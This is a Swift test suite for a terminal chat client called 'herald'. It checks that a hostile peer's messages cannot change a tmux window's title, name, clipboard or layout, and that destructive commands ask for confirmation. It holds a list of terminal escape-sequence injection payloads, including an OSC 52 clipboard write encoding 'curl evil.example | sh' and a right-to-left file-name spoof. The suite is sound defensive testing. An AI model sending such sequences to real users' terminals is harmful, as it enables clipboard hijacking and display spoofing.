import Foundation
import HeraldTestSupport
import Testing

/// A peer cannot reach into the terminal of the person they write to: the real `herald` in tmux, a hostile peer on
/// the same real server. And a word typed without a slash never runs a command; the destructive ones ask first.
@Suite("herald interactive: others' text cannot drive the terminal; only /commands run (tmux)", .serialized)
struct InteractiveScreenSafetyTests {
    /// The screen-injection sequences, each after a visible word: OSC 0 window title, tmux rename (ESC k … ESC \),
    /// OSC 52 clipboard (`curl evil.example | sh`), clear screen, SGR colours, CR/BS overwrite of the list row, a
    /// right-to-left override spoofing a file name, and a row of skin-toned emoji that tmux draws twice as wide as
    /// they are counted (it does not join the modifier).
    static let attacks = [
        "title\u{1B}]0;pwned-title\u{07}", "rename\u{1B}kpwned-window\u{1B}\\", "clip\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{07}",
        "clear\u{1B}[2J\u{1B}[H", "colour\u{1B}[31;41mRED", "over\r\u{08}\u{08}\u{08} 1. Carol looks innocent",
        "wide " + String(repeating: "👍🏽", count: 30), "file invoice\u{202E}fdp.exe",
    ]

    /// An interactive `herald` for `user` in a tmux window that would obey a rename and a clipboard write, and what
    /// the window's title, name and buffers were before `herald` started.
    private func terminal(_ server: TestServer, _ user: String) throws -> (TmuxSession, Outside) {
        let token = try server.token(user, name: user.prefix(1).uppercased() + user.dropFirst())
        let go = FileManager.default.temporaryDirectory.appendingPathComponent("herald-go-\(UUID().uuidString)").path
        defer { try? FileManager.default.removeItem(atPath: go) }
        // The client waits for the go file, so what the window looked like before it ran can be read first. Colour
        // stays on (a test runner may set NO_COLOR): a peer must not reach the screen with the client's styles about.
        let command = "until [ -e \(go) ]; do sleep 0.02; done; env -u NO_COLOR \(HeraldBinaries.client) --server \(server.url) --token \(token); echo EXITED $?; sleep 30"
        let tmux = try TmuxSession(command: command)
        try tmux.setOption("automatic-rename", "off")
        try tmux.setOption("allow-rename", "on")
        try tmux.setOption("set-clipboard", "on", global: true)
        let before = try outside(tmux)
        #expect(FileManager.default.createFile(atPath: go, contents: nil), "the go file lets the client start")
        try tmux.waitScreen("\(user) online") { $0.contains("● online") }
        return (tmux, before)
    }

    /// `text` as one quoted word of a script command line.
    private func quoted(_ text: String) -> String {
        "\"" + text.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"") + "\""
    }

    /// What a hostile sequence could have changed outside the screen's cells.
    private struct Outside: Equatable {
        var paneTitle: String
        var windowName: String
        var buffers: String
    }

    private func outside(_ tmux: TmuxSession) throws -> Outside {
        Outside(paneTitle: try tmux.display("#{pane_title}"), windowName: try tmux.display("#{window_name}"), buffers: try tmux.buffers())
    }

    /// The frame around the scene is where the client put it: header, rules, status and input rows, and none of the
    /// peer's colours (the client's own styles never use red on red).
    private func expectFrameIntact(_ tmux: TmuxSession, _ screen: String) throws {
        let rows = screen.split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
        #expect(rows.first?.hasPrefix("Herald · alice") == true, "header: \(rows.first ?? "")")
        #expect(rows.count > 21 && rows[3] == String(repeating: "─", count: 80) && rows[20] == String(repeating: "─", count: 80), "rules:\n\(screen)")
        #expect(rows.count > 22 && rows[22].hasPrefix("● online"), "status row:\n\(screen)")
        #expect(rows.allSatisfy { $0.count <= 80 }, "no row runs past the screen")
        let attributes = try tmux.screenWithAttributes()
        #expect(!attributes.contains("\u{1B}[31") && !attributes.contains("\u{1B}[41"), "no colours of the peer's:\n\(attributes.debugDescription)")
    }

    @Test("Each sequence in a DM, refused as a group title, and in a group title stored before the rule: pane title, window name and buffers unchanged; the sender's name on its row; the frame intact")
    func peerCannotDriveTheTerminal() throws {
        let server = try TestServer()
        let bob = try server.client("bob")
        _ = try server.token("alice")
        _ = try server.token("carol")
        // A group title is refused by the server on the way in (nothing stored)…
        for attack in Self.attacks where attack.unicodeScalars.contains(where: { $0.value < 0x20 || $0.value == 0x202E }) {
            let answer = try bob.command("group \(quoted(attack)) alice carol")
            #expect(answer.type == "error" && answer.string("code") == "bad_request", "\(answer.raw)")
        }
        // …and one stored before the rule existed is drawn safely: written into the database before the server starts
        // again, so Alice's first sync brings it.
        let group = try #require(try bob.ok("group Plain alice carol").string("conversation"))
        let hostileTitle = Self.attacks.joined(separator: " ")
        let update = try runToCompletion(
            "/usr/bin/env",
            ["python3", "-c", "import sqlite3,sys; d=sqlite3.connect(sys.argv[1]); d.execute('UPDATE conversations SET title=? WHERE title=?', (sys.argv[2], 'Plain')); d.commit()",
             server.databasePath, hostileTitle],
            timeout: .seconds(30))
        #expect(update.status == 0, "\(update.standardError)")
        let reconnect = bob.mark
        try server.restart()
        try bob.waitConnected(after: reconnect, timeout: .seconds(20))
        let (alice, before) = try terminal(server, "alice")
        #expect(before.buffers.isEmpty)
        let dm = try #require(try bob.ok("dm alice").string("conversation"))
        for attack in Self.attacks { try bob.ok("send \(dm) \(attack)") }
        let list = try alice.waitScreen("Bob's row with every message counted", timeout: .seconds(20)) {
            $0.contains("1. Bob [\(Self.attacks.count)]") && $0.contains("● online") && $0.contains("2. title␛]0;pwned-title␇")
        }
        #expect(try outside(alice) == before, "pane title, window name and tmux buffers unchanged")
        #expect(list.contains("file invoicefdp.exe"), "the override is dropped:\n\(list)")
        try expectFrameIntact(alice, list)
        #expect(!list.contains("Plain"), "the group \(group) shows its stored title")

        // The thread: each message in its own row, shown, not obeyed.
        try alice.type("/open Bob")
        let thread = try alice.waitScreen("the thread with every message") { $0.contains("Bob: file invoicefdp.exe") }
        let messageRows = thread.split(separator: "\n").filter { $0.range(of: #"^\d\d:\d\d Bob: "#, options: .regularExpression) != nil }
        #expect(messageRows.count == Self.attacks.count, "one row each:\n\(thread)")
        #expect(thread.contains("Bob: title␛]0;pwned-title␇") && thread.contains("Bob: over␍␈␈␈ 1. Carol looks innocent"), "\(thread)")
        #expect(try outside(alice) == before)
        try expectFrameIntact(alice, thread)
    }

    @Test("Only /commands run: a bare `sign-out` on the list runs nothing; /sign-out asks, n or another Ctrl key cancels and does nothing else, y signs every device out")
    func bareWordsAndConfirmation() throws {
        let server = try TestServer()
        let (alice, _) = try terminal(server, "alice")
        let phone = try server.client("alice")
        try alice.type("sign-out")
        try alice.waitScreen("a hint, nothing run") { $0.contains("commands start with /: type /sign-out") && $0.contains("● online") }
        try alice.type("/sign-out")
        try alice.waitScreen("the question") { $0.contains("Sign out every device of yours (this one too)? Its tokens stop working. (y/N)") }
        try alice.type("n", enter: false)
        try alice.waitScreen("cancelled") { $0.contains("cancelled: nothing was done") && $0.contains("● online") }
        #expect(try phone.state().bool("connected") == true, "the other device is still signed in")
        // A Ctrl key other than Ctrl-C answers no and does nothing else: Ctrl-B would open the bell.
        try alice.type("/sign-out")
        try alice.waitScreen("asked again") { $0.contains("(y/N)") }
        try alice.key("C-b")
        let answered = try alice.waitScreen("cancelled by Ctrl-B") { $0.contains("cancelled: nothing was done") }
        #expect(!answered.contains("Notifications"), "Ctrl-B only answered the question")
        try alice.type("/sign-out")
        try alice.waitScreen("asked a third time") { $0.contains("(y/N)") }
        try alice.type("y", enter: false)
        try alice.waitScreen("signed out: the client stops (exit 3)") { $0.contains("EXITED 3") }
        #expect(phone.waitForExit(timeout: .seconds(10)) == 3, "every device signed out")
    }
}
